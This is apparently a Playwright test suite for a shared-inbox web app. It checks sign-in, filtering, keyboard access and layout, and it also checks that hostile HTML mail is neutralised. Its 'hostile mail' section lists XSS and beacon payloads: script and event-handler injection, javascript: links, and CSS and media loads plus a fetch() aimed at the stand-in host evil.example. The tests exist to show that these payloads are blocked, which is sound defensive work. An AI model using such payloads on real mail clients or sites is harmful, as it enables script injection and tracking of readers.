import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { fileIntake } from '../../nodes/shared/filing/file';
import { recordAssignment } from '../../nodes/shared/store/assignments';
import { queueReply, settleReply } from '../shared/store/queued-reply';
import type { TeamMember } from '../../nodes/shared/store/team';
import { htmlMail, leadOf, openTestInbox, plainMail, type TestInbox } from '../SharedInbox/test-inbox';
import { launchBrowser, openPage, screenshot, type Browser } from './browser.mjs';
import { faintTexts } from './faint-texts';

type Tab = Awaited<ReturnType<typeof openPage>>;

let browser: Browser;
let inbox: TestInbox;
let ana: TeamMember;

beforeAll(async () => {
	browser = await launchBrowser();
}, 60_000);
afterAll(async () => await browser?.close(), 60_000);
beforeEach(async () => {
	inbox = await openTestInbox();
	ana = await inbox.member('Ana', 'administrator');
});
afterEach(async () => await inbox.close());

async function signIn(page: Tab): Promise<void> {
	inbox.smtp.clear();
	await page.goto(inbox.url);
	await page.getByLabel('Email').fill(ana.email);
	await page.getByRole('button', { name: 'Mail Me a Link' }).click();
	await page.getByRole('heading', { name: 'Look into your mail' }).waitFor();
	await page.goto(`${inbox.url}?ticket=${await inbox.mailedTicket()}`);
	await page.getByRole('button', { name: 'Sign In' }).click();
	await page.getByText('Sign Out').waitFor();
}

/** A morning in an office: every outcome, several lengths, several languages. */
async function fillInbox(): Promise<void> {
	const now = Date.now();
	const file = async (key: string, name: string, email: string, reply: 'sent' | 'refused' | null) => {
		const { person, enquiry } = await fileIntake(inbox.store, { messageKey: key, threadKey: key, receivedAt: now, source: 'Web form', name, company: null, language: null, identities: [{ kind: 'email', value: email, raw: email }], references: [] });
		await recordAssignment(inbox.store, { messageKey: key, contactId: person.id, enquiryId: enquiry?.id ?? null, ownerId: ana.id, rule: 'administrator', reason: 'Ana is the first administrator', assignedNow: true });
		if (reply === null) return;
		await queueReply(inbox.store, { messageKey: key, contactId: person.id, senderAddress: 'office@homes.example', recipient: email, headerId: `<${key}@homes.example>`, listings: [] });
		await settleReply(inbox.store, key, reply, reply === 'sent' ? 'Accepted by the server' : '550 No such user');
	};
	const MINUTE = 60_000;
	await file(await inbox.mail(plainMail({ subject: 'Interesado en el piso REF-77 de la calle Mayor', text: 'Nombre: Marta Gil\nTeléfono: 612 345 678\n\nBuenos días, ¿puedo verlo el sábado? https://portal.example/ref-77' }), { receivedAt: now - 2 * MINUTE, lead: leadOf() }), 'Marta Gil', 'marta@people.example', 'sent');
	await file(await inbox.mail(plainMail({ subject: 'Anfrage über Ihr Kontaktformular', from: 'Jürgen Groß <j.gross@leute.example>', text: 'Bitte um Rückruf.' }), { receivedAt: now - 50 * MINUTE, lead: leadOf({ name: { full: 'Jürgen Groß', first: null, last: null } }) }), 'Jürgen Groß', 'j.gross@leute.example', 'refused');
	await inbox.mail(plainMail({ subject: 'Call me', from: 'no-reply@portal.example', text: 'Somebody asked to be called.' }), { receivedAt: now - 90 * MINUTE, lead: leadOf({ outcome: 'review', reason: 'The mail names neither an e-mail address nor a phone number', name: null, emails: [], phones: [] }) });
	await inbox.mail(plainMail({ subject: 'Our spring offers for estate agents: save 20% on everything, only this week', from: 'Portal News <news@portal.example>' }), { receivedAt: now - 26 * 60 * MINUTE, lead: leadOf({ outcome: 'none', reason: 'A newsletter: it carries List-Unsubscribe and nobody’s details' }) });
	await inbox.mail(plainMail({ subject: 'Still waiting' }), { receivedAt: now - 3 * 24 * 60 * MINUTE });
	await inbox.mail(plainMail({ subject: 'Re: keys', from: 'Ana <ana@homes.example>' }), { receivedAt: now - 40 * 24 * 60 * MINUTE, verdict: { state: 'ignored', reason: 'Sent by one of your own addresses' } });
	await inbox.mail(plainMail({ subject: 'مرحبا، أريد زيارة الشقة', from: 'سارة <sara@people.example>' }), { receivedAt: now - 400 * 24 * 60 * MINUTE, verdict: { state: 'quarantined', reason: 'The workflow ended badly three times: “Contact Upsert” could not read the phone number' } });
}

describe('a team member', () => {
	it('signs in with the mailed link, reads a mail, and signs out, without JavaScript (W3, W12)', async () => {
		await fillInbox();
		const page = await openPage(browser);
		await page.goto(inbox.url);
		await screenshot(page, 'inbox-sign-in');
		await signIn(page);
		expect(new URL(page.url()).search).toBe('');
		await expect(page.locator('tbody tr').count()).resolves.toBe(7);
		await screenshot(page, 'inbox-list');
		await page.getByRole('link', { name: 'Interesado en el piso' }).click();
		expect(await page.frameLocator('iframe').locator('.mail').innerText()).toContain('¿puedo verlo el sábado?');
		expect(await page.getByLabel('What became of it').innerText()).toMatch(/Marta Gil.*label “Nombre”, line 3.*\+34612345678.*Labels not used/s);
		await screenshot(page, 'inbox-message');
		await page.goBack();
		await page.getByRole('button', { name: 'Sign Out' }).click();
		await page.getByText('You are signed out.').waitFor();
		await page.goto(inbox.url);
		await page.getByRole('button', { name: 'Mail Me a Link' }).waitFor();
		expect(page.complaints).toEqual([]);
	}, 60_000);

	it('filters by outcome, and reloading the page after signing in posts nothing again', async () => {
		await fillInbox();
		const page = await openPage(browser);
		await signIn(page);
		await page.reload();
		await page.getByRole('link', { name: 'Needs Attention' }).click();
		await page.waitForURL(/show=attention/);
		expect(await page.locator('td.outcome').allInnerTexts()).toEqual(['Needs Review', 'Quarantined']);
		expect(await page.locator('.bar [aria-current=page]').innerText()).toBe('Needs Attention 2');
	}, 60_000);

	it('works with the keyboard: the first tab skips to the content, each mail is one stop', async () => {
		await fillInbox();
		const page = await openPage(browser);
		await signIn(page);
		const stops: string[] = [];
		for (let press = 0; press < 23; press++) {
			await page.keyboard.press('Tab');
			stops.push((await page.locator(':focus').innerText()).split('\n')[0]);
		}
		expect(stops.slice(0, 8)).toEqual(['Skip to the content', 'Shared Inbox', 'Inbox', 'Accounts', 'Templates', 'People', 'Ana', 'Sign Out']);
		// The field for a search has no text of its own.
		expect(stops.slice(8, 22)).toEqual(['', 'Search', 'New Mail', 'All', 'Unread 7', 'Mine 2', 'Unassigned 5', 'Needs Attention 2', 'Archived', 'Linked', 'Unlinked', 'Leads', 'Needs Review', 'Not a Lead']);
		expect(stops[22]).toContain('Interesado');
		await page.keyboard.press('Enter');
		await page.getByRole('heading', { name: 'What Was Found' }).waitFor();
	}, 60_000);

	it.each([
		['a phone', 390, 'light'],
		['a phone at night', 390, 'dark'],
		['a tablet', 820, 'light'],
		['a wide screen at night', 1700, 'dark'],
	] as const)('on %s sees everything without scrolling sideways, with enough contrast', async (name, width, colorScheme) => {
		await fillInbox();
		const page = await openPage(browser, { width, colorScheme });
		await signIn(page);
		const looks = async () => {
			expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBeLessThanOrEqual(0);
			expect(await page.evaluate(faintTexts)).toEqual([]);
		};
		await screenshot(page, `inbox-list-${name.replaceAll(' ', '-')}`);
		await looks();
		await page.getByRole('link', { name: 'مرحبا' }).click();
		await looks();
		await page.goBack();
		await page.getByRole('link', { name: 'Interesado' }).click();
		await screenshot(page, `inbox-message-${name.replaceAll(' ', '-')}`);
		await looks();
	}, 60_000);
});

describe('a hostile mail in the browser', () => {
	const BEACON = 'https://evil.example';
	const HOSTILE = [
		`<script>top.document.title='owned'</script><img src=x onerror="top.document.title='owned'">`,
		`<svg onload="top.location='${BEACON}/svg'"><script>fetch('${BEACON}')</script></svg>`,
		`<style>@import url(${BEACON}/import.css);*{background:url(${BEACON}/star.gif)}</style><p style="background:url(${BEACON}/inline.gif)">x</p>`,
		`<meta http-equiv="refresh" content="0;url=${BEACON}/refresh"><base href="${BEACON}/"><link rel=stylesheet href="${BEACON}/link.css"><link rel=prefetch href="${BEACON}/prefetch">`,
		`<img src="${BEACON}/open.gif"><video poster="${BEACON}/poster.gif" src="${BEACON}/video"></video><audio src="${BEACON}/audio" autoplay></audio><object data="${BEACON}/object"></object><embed src="${BEACON}/embed"><iframe src="${BEACON}/frame"></iframe><input type=image src="${BEACON}/input">`,
		`<form id=f action="${BEACON}/form"><button autofocus>x</button></form><div style="position:fixed;inset:0;background:red">cover</div>`,
		`<a href="javascript:top.document.title='owned'" style="display:block;font-size:80px">click</a>`,
	];

	it.each(HOSTILE.map((hostile, index) => [index + 1, hostile]))('number %i: nothing runs, nothing leaves, nothing breaks out', async (_, hostile) => {
		const key = await inbox.mail(htmlMail(`<p>Before</p>${hostile}<p>After</p>`), { lead: leadOf() });
		const page = await openPage(browser);
		const requests: string[] = [];
		page.context().on('request', (request) => requests.push(request.url()));
		await signIn(page);
		await page.goto(`${inbox.url}?${new URLSearchParams({ message: key }).toString()}`);
		await page.frameLocator('iframe').getByText('After').waitFor();
		const link = page.frameLocator('iframe').locator('a');
		if (await link.count()) await link.first().click();
		await page.waitForTimeout(300);
		expect(requests.filter((url) => !url.startsWith(inbox.url) && !url.startsWith('data:'))).toEqual([]);
		expect(await page.title()).toBe('In HTML · Shared Inbox');
		expect(page.url()).toContain(inbox.url);
	}, 60_000);

	it('even unsanitised, the frame’s own policy stops it', async () => {
		// The browser announces requests that its policy then stops: what counts is whether anything arrives.
		const arrived: string[] = [];
		const evil = createServer((request, response) => {
			arrived.push(request.url ?? '');
			response.end();
		});
		evil.listen(0, '127.0.0.1');
		await once(evil, 'listening');
		const raw = HOSTILE.join('').replaceAll(BEACON, `http://127.0.0.1:${(evil.address() as AddressInfo).port}`);
		const key = await inbox.mail(htmlMail('<p>x</p>'), { lead: leadOf() });
		const page = await openPage(browser);
		await signIn(page);
		await page.context().route('**/*body=*', async (route) => {
			const answer = await route.fetch();
			await route.fulfill({ response: answer, body: `${raw}<p>After</p>` });
		});
		await page.goto(`${inbox.url}?${new URLSearchParams({ message: key }).toString()}`);
		await page.locator('iframe').waitFor();
		await page.waitForTimeout(1500);
		expect(await page.title()).toBe('In HTML · Shared Inbox');
		expect(page.url()).toContain(inbox.url);
		expect(arrived).toEqual([]);
		// Without a policy it does get through: the test would see it.
		const bare = await openPage(browser);
		await bare.setContent(raw);
		await bare.waitForTimeout(500);
		expect(arrived.length).toBeGreaterThan(3);
		evil.closeAllConnections();
		evil.close();
	}, 60_000);

	it('a link opens in a tab of its own that knows neither page nor address', async () => {
		const key = await inbox.mail(htmlMail(`<a href="${BEACON}/landing">Visit</a>`), { lead: leadOf() });
		const page = await openPage(browser);
		await signIn(page);
		let referrer: string | undefined = 'nobody came';
		await page.context().route(`${BEACON}/**`, async (route) => {
			referrer = route.request().headers().referer;
			await route.fulfill({ contentType: 'text/html', body: '<script>document.title = String(window.opener)</script>' });
		});
		await page.goto(`${inbox.url}?${new URLSearchParams({ message: key }).toString()}`);
		const [tab] = await Promise.all([page.context().waitForEvent('page'), page.frameLocator('iframe').getByText('Visit').click()]);
		await tab.waitForLoadState();
		expect(referrer).toBeUndefined();
		expect(await tab.title()).toBe('null');
	}, 60_000);
});
